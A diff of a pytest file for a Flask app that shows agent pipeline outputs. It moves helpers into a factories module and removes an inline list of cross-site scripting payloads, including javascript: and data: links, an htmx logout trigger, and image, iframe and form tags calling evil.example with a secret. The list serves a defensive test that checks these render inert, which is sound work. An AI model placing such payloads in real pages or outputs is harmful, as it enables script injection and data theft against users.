@@ -16,19 +16,11 @@ from flask.testing import FlaskClient
 from artifacts_app import recording, rendering
 from artifacts_app.extensions import db
 from artifacts_app.models import PipelineRun, User
-from tests.factories import make_run, make_user
+from tests.factories import HOSTILE_OUTPUTS, make_run, make_user, steps
 from tests.http_helpers import without_csrf_tokens
 
 HX = {"HX-Request": "true"}
 SELECTED = re.compile(r'<a role="tab" id="tab-([a-z0-9-]+)"[^>]*aria-selected="true"')
-
-
-def steps(*outputs: str, **extra: Any) -> list[dict[str, Any]]:
-    names = ["Researcher", "Analyst", "Writer", "Editor"]
-    return [
-        {"agentId": names[i].lower(), "agentName": names[i], "output": output, "stepOrder": i, **extra}
-        for i, output in enumerate(outputs)
-    ]
 
 
 @pytest.fixture
@@ -113,24 +105,7 @@ def test_a_legacy_run_shows_its_text_output_as_the_only_tab(signed_in: FlaskClie
     assert download.get_data(as_text=True) == "## Legacy *text*"
 
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)><circle/></svg>",
-    "[click](javascript:alert(1))",
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    '<a href="javascript:alert(1)">raw link</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">raw data link</a>',
-    "![leak](https://evil.example/collect?secret=1)",
-    '<div hx-get="/logout" hx-trigger="load">htmx</div>',
-    "<iframe src=https://evil.example></iframe>",
-    "<form action=https://evil.example><input name=x></form>",
-    "<style>body{display:none}</style>",
-    "<textarea>unclosed",
-]
-
-
-@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("hostile", HOSTILE_OUTPUTS)
 def test_hostile_output_renders_inert(signed_in: FlaskClient, user: User, hostile: str) -> None:
     run = make_run(user, steps=steps(hostile), final_output=hostile)
     html = signed_in.get(f"/artifacts/{run.id}?tab=step-1").get_data(as_text=True)
